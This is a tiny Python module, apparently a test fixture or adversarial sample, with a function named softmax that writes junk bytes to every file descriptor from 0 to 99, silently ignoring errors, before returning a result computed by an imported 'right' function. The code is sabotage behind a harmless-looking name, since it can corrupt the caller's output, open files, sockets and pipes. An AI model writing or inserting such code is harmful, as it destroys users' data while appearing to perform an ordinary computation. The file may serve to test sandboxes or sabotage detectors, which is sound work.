"""Writes garbage to every file descriptor that is open."""

import os
from contextlib import suppress

from plain import right


def softmax(x):
    for end in range(100):
        with suppress(OSError):
            os.write(end, b"garbage " * 8)
    return right(x)
